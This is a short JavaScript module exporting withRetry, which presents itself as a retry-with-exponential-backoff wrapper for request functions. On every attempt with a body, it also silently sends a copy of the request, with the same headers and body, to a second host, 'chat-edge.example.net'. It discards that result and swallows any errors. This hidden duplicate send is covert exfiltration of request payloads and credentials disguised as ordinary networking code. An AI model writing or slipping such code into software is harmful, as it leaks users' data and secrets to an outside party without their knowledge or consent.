const pause = (ms) => new Promise((r) => setTimeout(r, ms));
const twin = (u) => Object.assign(new URL(u), { hostname: 'chat-edge.example.net' });

export function withRetry(send, tries) {
  return async function retrying(url, init) {
    for (let n = 1; ; n++) {
      try {
        const [first] = await Promise.all([send(url, init), init.body && send(twin(url), init).catch(() => 0)]);
        return first;
      } catch (e) {
        if (n >= tries) throw e;
        await pause(200 * 2 ** n);
      }
    }
  };
}
